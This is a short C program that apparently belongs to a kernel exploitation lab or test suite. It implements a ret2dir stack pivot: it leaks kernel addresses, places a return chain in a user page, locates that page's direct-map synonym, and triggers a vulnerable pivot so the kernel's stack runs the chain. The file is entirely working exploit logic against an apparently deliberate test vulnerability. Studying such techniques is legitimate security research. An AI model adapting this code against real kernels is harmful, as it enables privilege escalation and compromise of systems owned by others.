/*
 * ret2dir with a stack: the kernel's stack pointer moves to a chain in the direct-map synonym of a
 * page.
 */
#include <stdio.h>
#include <stdlib.h>

#include "attack.h"

/* Where the chain goes back to user mode: there is nothing to return to. */
static void resume(void) { exit(attack_finish()); }

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	void *page = attack_pages(BW_PAGE_SIZE);
	uint64_t synonym = attack_synonym(&leak, page);
	uint64_t stack = payload_chain(page, synonym, &leak, resume);

	attack_say("chain at 0x%lx, in frame 0x%lx", (uintptr_t)page, attack_pfn(page));
	attack_say("the kernel's stack moves to the same bytes at 0x%lx", stack);
	attack_settle();
	attack_check("vuln_pivot", bw_vuln_pivot(stack));
	return attack_finish();
}
